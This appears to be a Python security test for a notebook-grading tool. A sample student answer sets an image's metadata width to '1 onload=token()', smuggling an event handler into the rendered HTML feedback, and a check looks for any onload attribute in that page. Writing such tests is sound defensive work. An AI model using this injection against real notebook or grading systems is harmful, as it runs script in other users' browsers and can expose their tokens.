"""The width of a picture carries a handler into the page."""

from bs4 import BeautifulSoup

ANSWER = """
from IPython.display import display
picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
display({"image/png": picture}, raw=True, metadata={"image/png": {"width": "1 onload=token()"}})
def double(x):
    return x
"""


def won(course, student):
    page = course.root / "feedback" / student / "toy" / "Toy.html"
    tags = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").find_all(True)
    return any(tag.get("onload") for tag in tags)
